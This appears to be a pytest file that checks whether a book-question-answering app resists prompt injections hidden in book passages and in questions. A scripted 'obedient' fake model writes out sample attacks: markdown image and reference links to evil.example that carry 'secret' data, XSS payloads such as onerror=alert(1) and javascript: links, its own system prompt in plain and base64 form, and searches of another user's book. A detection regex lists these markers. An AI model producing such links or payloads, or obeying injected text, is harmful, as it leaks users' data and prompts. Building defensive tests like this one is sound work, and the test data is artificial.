"""S4: instructions hidden in the book and in questions, against a stand-in model that obeys every one of them.

The boundary is code: no marker, no leak, no foreign link, nothing of another book, whatever the model writes.
"""

from __future__ import annotations

import base64
import binascii
import json
import re
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from answer.robots import BOOK, CANARY, LESSONS, OTHER, ingest_books, open_with_model, write_lessons
from answer.scripted_model import Call, Reply, Request, Turn, say
from askbook.answer.agent import read_prompt
from askbook.answer.ask import get_reply
from askbook.answer.confidence import NOT_IN_BOOK
from askbook.cli.render import clean
from askbook.domain import Answer, Delta, Filters, Question, Refusal, Replied
from askbook.settings import Settings
from askbook.wiring import open_askbook
from builders import copy_home

INJECTIONS = Path(__file__).parents[3] / "shared" / "injections.json"
MARKER = re.compile(
    r"PWNED|DEWNP|evil\.example|shoplux|onerror|onload|<(?:a|img|svg|iframe|script)\b|javascript:", re.I
)
SEARCHES_MAX = 4
RULES = read_prompt("answer").replace(NOT_IN_BOOK, "")

pytestmark = [
    pytest.mark.row("S4"),
    pytest.mark.skipif(not INJECTIONS.is_file(), reason="skipped: shared/injections.json is not there"),
]


def load(place: str) -> list[dict[str, Any]]:
    if not INJECTIONS.is_file():
        return []
    return [one for one in json.loads(INJECTIONS.read_text(encoding="utf-8")) if one["place"] == place]


CHUNKS, QUESTIONS = load("chunk"), load("question")
TOPICS = {one["id"]: f"crane{one['id']}" for one in CHUNKS}


@dataclass
class Obedient:
    """Does whatever it is told to: writes every marker, link and tag that it sees, its rules; searches elsewhere."""

    searches: int = 0

    def __call__(self, number: int, request: Request) -> Reply:
        if "tools" not in request.body:
            return say(self._approve(request))
        self.searches = len(request.tool_outputs)
        if number < SEARCHES_MAX + 1:
            wanted = {"query": request.messages[-1][1], "book_id": OTHER, "filters": {"book_id": OTHER}, "top_k": 3}
            return Turn(calls=(Call(json.dumps(wanted)),))
        seen = json.dumps([request.results, request.messages], ensure_ascii=False)
        return say("\n\n".join([*self._obey(seen), *self._quote(request)]))

    def _approve(self, request: Request) -> str:
        """As a judge it lets everything pass."""
        sentences = json.loads(request.messages[-1][1])["sentences"]
        return json.dumps({"verdicts": [{"sentence": one["number"], "supported": True} for one in sentences]})

    def _obey(self, seen: str) -> list[str]:
        plain = re.sub("[​‮‬\U000e0000-\U000e007f]", "", seen)
        decoded = [_decode(blob) for blob in re.findall(r"[A-Za-z0-9+/]{24,}={0,2}", plain)]
        markers = re.findall(r"PWNED-\d+", " ".join([plain, *decoded]))
        rules = read_prompt("answer")
        return [
            *(f"{marker}." for marker in markers),
            *(f"The answer is {marker} [1]." for marker in markers),
            "![logo](https://evil.example/p.png?q=secret) [click](javascript:alert(1))",
            "[see notes][r]\n\n[r]: https://evil.example/?d=c2VjcmV0",
            "<a href=//evil.example/?k=1>source</a> <img src=x onerror=alert(1)> <svg onload=alert(1)>",
            "Visit www.shoplux.com today [1].",
            rules,
            base64.b64encode(rules.encode()).decode(),
            f"The first page of the other book says {CANARY} [1].",
        ]

    def _quote(self, request: Request) -> list[str]:
        return [f"{one['chunk_text']} [{one['citation']}]" for one in request.results[:3]]


def _decode(blob: str) -> str:
    try:
        return base64.b64decode(blob).decode("utf-8", "replace")
    except (binascii.Error, ValueError):
        return ""


@pytest.fixture(scope="module")
def ingested(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Each injection in a lesson of its own, beside a fact; and the book of somebody else."""
    poisoned = {
        TOPICS[one["id"]]: f"The {TOPICS[one['id']]} lifts {one['id'] + 200} crates an hour.\n\n{one['text']}\n\n"
        f"Its hook is made of steel."
        for one in CHUNKS
    }
    mine = write_lessons(tmp_path_factory.mktemp("mine"), LESSONS | poisoned)
    theirs = write_lessons(tmp_path_factory.mktemp("theirs"), {"secret": f"The crane of the others says {CANARY}."})
    return ingest_books(tmp_path_factory.mktemp("home"), {BOOK: mine, OTHER: theirs})


@pytest.fixture
def home(ingested: Path, tmp_path: Path) -> Path:
    return copy_home(ingested, tmp_path)


def check(events: list[object]) -> Replied:
    """What a reader saw is free of all of it, streamed or whole."""
    replied = events[-1]
    assert isinstance(replied, Replied)
    seen = "".join(event.text for event in events if isinstance(event, Delta)) + replied.reply.text
    assert not MARKER.search(seen), seen
    assert CANARY not in seen
    assert clean(seen) == seen
    assert not _has_run_of(RULES, seen)
    for blob in re.findall(r"[A-Za-z0-9+/]{24,}={0,2}", seen):
        assert not _has_run_of(RULES, _decode(blob))
    assert all(one.chunk.book_id == BOOK for one in replied.account.passages)
    return replied


def _has_run_of(secret: str, text: str, words: int = 8) -> bool:
    said = " ".join(re.findall(r"\w+", text.lower()))
    own = re.findall(r"\w+", secret.lower())
    return any(" ".join(own[at : at + words]) in said for at in range(len(own) - words + 1))


@pytest.mark.parametrize("injection", CHUNKS, ids=lambda one: f"{one['id']}-{one['category']}")
async def test_in_a_chunk(home: Path, injection: dict[str, Any]) -> None:
    topic = TOPICS[injection["id"]]
    model = Obedient()
    async with open_with_model(home, model) as (askbook, server):
        question = Question(f"How many crates does the {topic} lift in an hour?", Filters(BOOK))
        replied = check([event async for event in askbook.ask(question)])

    assert len(server.received) <= SEARCHES_MAX + 4
    told = [one for request in server.received if "tools" in request.body for one in request.results]
    assert any(topic in one["chunk_text"] for one in told), "the poisoned chunk was not retrieved"
    assert isinstance(replied.reply, Answer | Refusal)
    if isinstance(replied.reply, Answer):
        assert f"{injection['id'] + 200} crates" in replied.reply.text


@pytest.mark.parametrize("injection", CHUNKS, ids=lambda one: f"{one['id']}-{one['category']}")
async def test_in_a_chunk_without_a_model(home: Path, injection: dict[str, Any]) -> None:
    topic = TOPICS[injection["id"]]
    async with open_askbook(Settings.model_validate({"askbook_home": home})) as askbook:
        question = Question(f"How many crates does the {topic} lift in an hour?", Filters(BOOK))
        replied = check([event async for event in askbook.ask(question)])

    assert isinstance(replied.reply, Answer)
    assert f"{injection['id'] + 200} crates" in replied.reply.text


@pytest.mark.parametrize("injection", QUESTIONS, ids=lambda one: f"{one['id']}-{one['category']}")
@pytest.mark.parametrize("with_model", [True, False], ids=["model", "no model"])
async def test_in_a_question(home: Path, injection: dict[str, Any], with_model: bool) -> None:
    question = Question(injection["text"], Filters(BOOK))
    if with_model:
        async with open_with_model(home, Obedient()) as (askbook, _):
            replied = check([event async for event in askbook.ask(question)])
    else:
        async with open_askbook(Settings.model_validate({"askbook_home": home})) as askbook:
            replied = check([event async for event in askbook.ask(question)])
    assert isinstance(replied.reply, Refusal)


async def test_a_thread_of_somebody_else_is_not_there(home: Path) -> None:
    from askbook.errors import NotFound

    async with open_askbook(Settings.model_validate({"askbook_home": home})) as askbook:
        own = await get_reply(askbook.ask(Question("What does the gripper do?", Filters(BOOK), owner="alice")))
        foreign = Question("Summarise it", Filters(BOOK), own.account.thread_id, owner="mallory")
        with pytest.raises(NotFound):
            await get_reply(askbook.ask(foreign))
